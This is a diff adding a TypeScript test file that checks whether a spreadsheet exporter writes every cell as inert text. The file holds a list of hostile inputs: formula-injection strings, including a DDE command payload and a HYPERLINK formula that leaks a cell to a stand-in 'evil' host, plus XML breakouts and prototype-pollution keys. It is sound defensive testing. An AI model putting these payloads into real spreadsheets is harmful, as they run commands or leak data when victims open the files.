@@ -1,0 +1,87 @@
+import { strFromU8, unzipSync } from 'fflate'
+import { JSDOM } from 'jsdom'
+import { expect, test } from 'vitest'
+import { spreadsheetOf } from './spreadsheet.ts'
+
+const hostile = [
+  '=1+1',
+  'Budi;=1+1;x',
+  'Halo;=cmd|/c calc!A0;y',
+  'Halo\n=HYPERLINK("http://evil/?"&A1)',
+  ';"=1+1;x',
+  'satu,"",=2*3',
+  'a\t=1\r\n+1\r@SUM(A1)',
+  '＝1+1',
+  '</t></is></c><c><f>1+1</f></c>',
+  ']]>&lt;![CDATA[',
+  '_x003D_1+1',
+  'constructor',
+  '__proto__',
+]
+
+test('keeps every text as it was written, in a cell that is a string', async () => {
+  const rows = [['Nama', 'Pesan'], ...hostile.map((text) => ['Sari', text])]
+  const { texts, markup } = await sheetOf(rows)
+  expect(texts).toEqual(rows)
+  expect(markup).not.toMatch(/<f[\s>/]/)
+})
+
+test('writes every cell as text, also where an editor opens and leaves it', async () => {
+  const { cells, styles } = await sheetOf([['=1+1', '+62 812 0000']])
+  expect(cells.map((cell) => cell.getAttribute('t'))).toEqual(['inlineStr', 'inlineStr'])
+  const formats = [...styles.querySelectorAll('cellXfs > xf')]
+  expect(formats.map((format) => format.getAttribute('numFmtId'))).toEqual(['49'])
+})
+
+test.for(['a\u0000b', 'a\u001Bb', 'a\uD800b', 'a\uFFFFb'])(
+  'writes %j, of which XML knows a part alone, so that it can be opened',
+  async (text) => {
+    expect((await sheetOf([[text]])).texts).toEqual([['a\uFFFDb']])
+  },
+)
+
+test('cuts a text to what a cell may hold', async () => {
+  const { texts } = await sheetOf([['x'.repeat(40_000)]])
+  expect(texts[0]?.[0]).toHaveLength(32_767)
+})
+
+test('hands on what is written before the last row is read', async () => {
+  let read = 0
+  async function* rows() {
+    // Random, so that it cannot be pressed into one piece.
+    for (; read < 200; read += 1) {
+      yield [Array.from({ length: 5_000 }, () => Math.random().toString(36).at(-1)).join('')]
+    }
+  }
+  const pieces = spreadsheetOf(rows())
+  let bytes = 0
+  while (bytes < 100_000) bytes += (await pieces.next()).value?.byteLength ?? 100_000
+  expect(read).toBeLessThan(200)
+})
+
+async function sheetOf(rows: string[][]) {
+  async function* given() {
+    yield* rows
+  }
+  const files = unzipSync(Buffer.concat(await Array.fromAsync(spreadsheetOf(given()))))
+  const documents = Object.entries(files).map(([path, bytes]) => {
+    const { document } = new JSDOM(strFromU8(bytes), { contentType: 'text/xml' }).window
+    return [path, document] as const
+  })
+  const [sheet, styles] = ['xl/worksheets/sheet1.xml', 'xl/styles.xml'].map((path) => {
+    const found = documents.find(([name]) => name === path)?.[1]
+    if (!found) throw new Error(`There is no ${path}.`)
+    return found
+  })
+  if (!sheet || !styles) throw new Error('There is no sheet.')
+  return {
+    styles,
+    cells: [...sheet.querySelectorAll('c')],
+    markup: strFromU8(files['xl/worksheets/sheet1.xml'] ?? new Uint8Array()),
+    texts: [...sheet.querySelectorAll('row')].map((row) =>
+      [...row.querySelectorAll('c')].map((cell) =>
+        (cell.querySelector('is > t')?.textContent ?? '').replaceAll('_x005F_', '_'),
+      ),
+    ),
+  }
+}
